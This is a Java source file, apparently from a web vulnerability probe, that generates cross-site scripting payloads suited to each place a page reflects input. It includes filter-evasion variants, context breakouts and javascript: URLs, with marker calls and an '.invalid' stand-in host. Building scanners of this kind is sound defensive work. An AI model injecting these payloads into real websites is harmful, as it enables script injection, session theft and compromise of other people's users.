package dev.brisach.deploy.probe;

import dev.brisach.deploy.probe.Kind.Placement;
import dev.brisach.deploy.probe.Reflection.Place;
import java.util.ArrayList;
import java.util.List;

/** Ways to make script of text, by the place where a page repeats it. */
final class ScriptWays {
  /**
   * A way.
   *
   * @param needs characters that must come through as they are
   * @param text with {@code CALL} for a call of ours, {@code HOST} for a host of ours, and {@code
   *     TAIL} for letters that may be cut off
   */
  record Way(Place place, String needs, Placement placement, String text) {
    /** The text of the payload. */
    String of(String word, int number, String tail) {
      return text.replace("CALL", word + "(" + number + ")")
          .replace("HOST", word + ".invalid")
          .replace("TAIL", tail);
    }
  }

  /** Elements that run script; the likelier to pass a filter first, most without a space. */
  private static final List<String> ELEMENTS =
      List.of(
          "<svg/onload=CALL>TAIL",
          "<img src=x onerror=CALL>TAIL",
          "<script>CALL</script>TAIL",
          "<a href=javascript:CALL>TAIL</a>",
          "<iframe src=javascript:CALL></iframe>TAIL",
          "<script src=//HOST/></script>TAIL",
          "<body onload=CALL>TAIL",
          "<div onclick=CALL>TAIL</div>",
          "<div style=width:9px onmouseover=CALL>TAIL</div>",
          "<input autofocus onfocus=CALL>TAIL",
          "<details open ontoggle=CALL>TAIL",
          "<img\nsrc=x\nonerror=CALL\n>TAIL",
          "<ScRiPt>CALL</sCrIpT>TAIL",
          "<scr<script>ipt>CALL</scr</script>ipt>TAIL",
          "<iframe srcdoc=\"<script>parent.CALL</script>\">TAIL",
          "<svg><animate onbegin=CALL attributeName=x dur=1s>TAIL",
          "<bxTAIL onclick=CALL>TAIL");

  /** The first of them, for places that must be left before. */
  private static final List<String> FEW = ELEMENTS.subList(0, 4);

  static final List<Way> ALL = all();

  private ScriptWays() {}

  private static List<Way> all() {
    List<Way> ways = new ArrayList<>();
    ELEMENTS.forEach(element -> ways.add(append(Place.TEXT, "<>", element)));
    handlers(ways);
    scripts(ways);
    leaving(ways, Place.RAW_TEXT, "<>", "</title></textarea></noscript></xmp></noembed>");
    leaving(ways, Place.COMMENT, "<>", "-->");
    leaving(ways, Place.STYLE, "<>", "</style>");
    leaving(ways, Place.SCRIPT, "<>", "</script>");
    leaving(ways, Place.ATTRIBUTE_DOUBLE, "\"<>", "\">");
    leaving(ways, Place.ATTRIBUTE_SINGLE, "'<>", "'>");
    leaving(ways, Place.ATTRIBUTE_BARE, "<>", ">");
    leaving(ways, Place.ATTRIBUTE_BARE, "<>", " >");
    leaving(ways, Place.TAG, "<>", ">");
    for (String scheme : List.of("javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL")) {
      ways.add(new Way(Place.ADDRESS, "", Placement.REPLACE, scheme));
      ways.add(new Way(Place.ADDRESS, "", Placement.REPLACE, scheme + "//TAIL"));
    }
    for (String address : List.of("//HOST/TAIL", "https://HOST/TAIL", "data:,CALL//TAIL")) {
      ways.add(new Way(Place.ADDRESS, "", Placement.REPLACE, address));
    }
    return List.copyOf(ways);
  }

  private static void leaving(List<Way> ways, Place place, String needs, String out) {
    FEW.forEach(element -> ways.add(append(place, needs, out + element)));
  }

  private static void handlers(List<Way> ways) {
    for (String quote : List.of("\"", "'")) {
      Place place = quote.equals("'") ? Place.ATTRIBUTE_SINGLE : Place.ATTRIBUTE_DOUBLE;
      String text = "Qtabindex=Q1Qautofocus=Q1Qonfocus=QCALLQx=QTAIL".replace("Q", quote);
      ways.add(append(place, quote, text));
      ways.add(append(place, quote, quote + " onclick=CALL x=" + quote + "TAIL"));
    }
    for (Place place : List.of(Place.ATTRIBUTE_BARE, Place.TAG)) {
      for (String space : List.of(" ", "\t", "\f", "/")) {
        String text = "Stabindex=1Sautofocus=1Sonfocus=CALLSx=TAIL".replace("S", space);
        ways.add(append(place, "", text));
      }
      ways.add(append(place, "", " onclick=CALL x=TAIL"));
    }
    ways.add(new Way(Place.TAG, "", Placement.REPLACE, "svg/onload=CALL x=TAIL"));
    ways.add(new Way(Place.TAG, "", Placement.REPLACE, "img src=x onerror=CALL x=TAIL"));
    // a quote that the page writes as a character reference is a quote again in a handler
    for (Place place : List.of(Place.HANDLER, Place.ADDRESS)) {
      for (String code : List.of("'-CALL-'TAIL", "\"-CALL-\"TAIL", "%27-CALL-%27TAIL")) {
        ways.add(append(place, "", code));
      }
    }
    ways.add(append(Place.HANDLER, "", "-CALL"));
    ways.add(append(Place.HANDLER, "", ";CALL//TAIL"));
    ways.add(append(Place.HANDLER, "", "/-CALL-/TAIL"));
    ways.add(new Way(Place.HANDLER, "", Placement.REPLACE, "CALL//TAIL"));
    ways.add(new Way(Place.HANDLER, "", Placement.REPLACE, "javascript:CALL"));
  }

  private static void scripts(List<Way> ways) {
    ways.add(append(Place.SCRIPT, "\"", "\"-CALL-\"TAIL"));
    ways.add(append(Place.SCRIPT, "'", "'-CALL-'TAIL"));
    ways.add(append(Place.SCRIPT, "", "`-CALL-`TAIL"));
    ways.add(append(Place.SCRIPT, "", "${CALL}TAIL"));
    ways.add(append(Place.SCRIPT, "", "/-CALL-/TAIL"));
    ways.add(append(Place.SCRIPT, "", "*/CALL/*TAIL"));
    ways.add(append(Place.SCRIPT, "", "\nCALL//TAIL"));
    ways.add(append(Place.SCRIPT, "", "\\\"-CALL//TAIL"));
    ways.add(append(Place.SCRIPT, "", "\\'-CALL//TAIL"));
    ways.add(append(Place.SCRIPT, "", "-CALL"));
    ways.add(append(Place.SCRIPT, "", ";CALL;//TAIL"));
    ways.add(new Way(Place.SCRIPT, "", Placement.REPLACE, "CALL"));
  }

  private static Way append(Place place, String needs, String text) {
    return new Way(place, needs, Placement.APPEND, text);
  }
}
